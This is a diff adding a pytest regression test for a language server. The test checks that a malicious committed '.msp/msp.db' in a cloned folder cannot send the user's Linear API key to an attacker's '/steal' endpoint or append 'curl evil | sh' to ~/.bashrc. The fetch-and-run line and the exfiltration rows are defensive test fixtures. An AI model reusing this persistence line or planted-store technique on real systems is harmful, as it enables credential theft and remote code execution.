@@ -4,6 +4,10 @@ cloned folder's config or store cannot make the server do on folder open."""
 from __future__ import annotations
 
 import json
+import os
+import sqlite3
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -100,3 +104,118 @@ async def test_open_payload_refuses_an_id_that_is_a_path(tmp_path: Path) -> None
                 await lsp.command("openPayload", id=bad, folderUri=uri(folder))
     assert not outside.exists()
     assert not list(tmp_path.glob("settings*"))
+
+
+def plant_store(folder: Path, tmp_path: Path, sink: HttpSink) -> None:
+    """The attacker's `.msp/msp.db`, made on their machine (another user key) and committed:
+    queued rows that name the attacker's URLs, the user's credentials and `.bashrc`."""
+    attacker = {"MSP_CONFIG_PATH": str(tmp_path / "attacker" / "config.json")}
+    made = run_cli_sync(folder, attacker, "start", "--project", "bait")
+    assert made.returncode == 0, made.stderr
+    rows = [
+        (
+            "linear",
+            "graphql",
+            {
+                "kind": "graphql",
+                "title": "x",
+                "endpoint": f"{sink.url}/steal",
+                "query": "mutation MspCommentCreate($input: CommentCreateInput!) "
+                "{ commentCreate(input: $input) { success } }",
+                "variables": {"input": {"issueId": "ENG-1", "body": "hi"}},
+                "operationName": "MspCommentCreate",
+                "auth": {"credential": "linear-api-key"},
+            },
+        ),
+        (
+            "slack",
+            "http",
+            {
+                "kind": "http",
+                "title": "x",
+                "method": "POST",
+                "url": f"{sink.url}/steal",
+                "headers": {},
+                "json": {"text": "hi"},
+                "auth": {"credential": "linear-api-key"},
+            },
+        ),
+        (
+            "obsidian",
+            "file",
+            {
+                "kind": "file",
+                "title": "x",
+                "path": ".bashrc",
+                "content": "curl evil | sh\n",
+                "mode": "append",
+                "heading": None,
+            },
+        ),
+    ]
+    with sqlite3.connect(folder / ".msp" / "msp.db") as conn:
+        for index, (integration, kind, body) in enumerate(rows):
+            conn.execute(
+                "INSERT INTO payloads (id, integration, hook, kind, title, body, status, "
+                "idempotency_key, created_at) VALUES (?, ?, 'session_started', ?, 'x', ?, "
+                "'queued', ?, '2026-01-01T00:00:00.000Z')",
+                (f"pay-0000000{index}", integration, kind, json.dumps(body), f"k{index}"),
+            )
+
+
+def run_cli_sync(folder: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "msp_server.cli", "--workspace", str(folder), *args],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        timeout=60,
+    )
+
+
+async def test_opening_a_folder_with_a_committed_store_sends_nothing_anywhere(
+    tmp_path: Path, sink: HttpSink
+) -> None:
+    """Finding 1: opening such a folder sent `Authorization: lin_api_…` to the attacker within
+    6 s of initialize; finding 2: `vaultPath: ~` + a `.bashrc` row appended to ~/.bashrc."""
+    key = "lin_api_committed_store_user_key_0123"
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# mine\n")
+    vault = home / "Notes"
+    vault.mkdir()
+    sink.route("/graphql", LinearApi(key))
+    sink.route(HOOK, slack_webhook)
+    user_config(  # the user's own, trusted integrations, all delivering
+        tmp_path,
+        {
+            "integrations": {
+                "linear": {
+                    "enabled": True,
+                    "delivery": "send",
+                    "config": {"issueId": "ENG-1", "endpoint": f"{sink.url}/graphql"},
+                },
+                "slack": {"enabled": True, "delivery": "send"},
+                "obsidian": {
+                    "enabled": True,
+                    "delivery": "send",
+                    "config": {"vaultPath": str(vault)},
+                },
+            }
+        },
+    )
+    folder = tmp_path / "cloned"
+    folder.mkdir()
+    plant_store(folder, tmp_path, sink)
+    env = {"LINEAR_API_KEY": key, "SLACK_WEBHOOK_URL": f"{sink.url}{HOOK}", "HOME": str(home)}
+    async with start_server(tmp_path, [folder], env=env) as lsp:
+        warned = await lsp.recorder.wait_for("window/logMessage", lambda p: "held" in p["message"])
+        assert "3 queued payload(s) are held" in warned["message"]
+        flushed = await lsp.command("flushOutbox", wait=2)
+        assert flushed["sent"] == []
+        listed = (await lsp.command("listPayloads"))["payloads"]
+        assert {p["status"] for p in listed} == {"generated"}
+        assert all(p["lastError"].startswith("held:") for p in listed)
+    assert sink.count("/steal") == 0 and sink.count() == 0
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "Notes"]
